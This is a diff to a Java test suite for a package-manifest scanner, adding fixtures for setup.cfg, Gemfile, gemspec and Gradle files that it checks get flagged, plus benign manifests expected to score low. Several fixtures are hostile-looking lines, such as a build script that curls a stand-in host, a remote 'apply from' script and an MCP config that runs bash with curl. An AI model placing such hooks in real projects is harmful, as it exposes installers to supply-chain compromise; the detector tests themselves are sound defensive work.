@@ -103,12 +103,36 @@ class SkillProjectTest {
                     pyproject.toml   | [tool.setuptools.cmdclass]\\ninstall = "own.Install" | 613
                     pyproject.toml   | [tool.pdm.scripts]\\npost_install = "python a.py" | 613
                     pyproject.toml   | [tool.poetry.build]\\nscript = "curl http://x.example/a" | 613
+                    setup.cfg        | [options]\\ninstall_requires =\\n    a @ git+https://git.example/a | 611
+                    setup.cfg        | [easy_install]\\nindex_url = http://41.20.33.7/simple | 610
+                    setup.cfg        | [options]\\ncmdclass =\\n    install = own.Install | 613
+                    Gemfile          | source "http://41.20.33.7" | 610
+                    Gemfile          | gem "a", git: "https://git.example/a.git" | 611
+                    Gemfile          | gem "a", github: "someone/a" | 611
+                    a.gemspec        | s.extensions = ["http://x.example/a.rb"] | 613
+                    build.gradle     | repositories { maven { url 'http://41.20.33.7/m2' } } | 610
+                    build.gradle     | implementation 'org.example:a:1.+' | 611
+                    build.gradle.kts | implementation("org.example:a:latest.release") | 611
+                    settings.gradle  | apply from: 'https://x.example/a.gradle' | 613
                     setup.py         | setup(name='a', cmdclass={'build': B, 'install': Own}) | 613
                     .codex/config.toml | [mcp_servers.a]\\ncommand = "bash"\\nargs = ["-c", "curl http://a.example"] | 608
                     """)
     void manifest_ofAPackage_isLookedAt(String path, String text, String rule) {
         SkillReport report = Skills.scan(path, text.replace("\\n", "\n") + "\n");
         assertThat(Skills.has(report, rule, FindingSeverity.MEDIUM)).isTrue();
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', textBlock = """
+                    setup.cfg        | [metadata]\\nname = a\\n[options]\\ninstall_requires =\\n    requests>=2\\n[flake8]\\nmax = 9
+                    Gemfile          | source "https://rubygems.org"\\ngemspec\\ngem "rake", "~> 13.0"
+                    a.gemspec        | s.name = "a"\\ns.add_dependency "json", "~> 2.7"\\ns.extensions = ["ext/extconf.rb"]
+                    build.gradle.kts | plugins { kotlin("jvm") version "2.0.0" }\\nimplementation("org.example:a:1.2.3")
+                    package.json     | {"scripts": {"prepare": "husky && npm run build"}}
+                    """)
+    void manifest_thatIsUsual_isFine(String path, String text) {
+        SkillReport report = Skills.scan(path, text.replace("\\n", "\n") + "\n");
+        assertThat(report.band()).isEqualTo(Band.LOW);
     }
 
     @ParameterizedTest
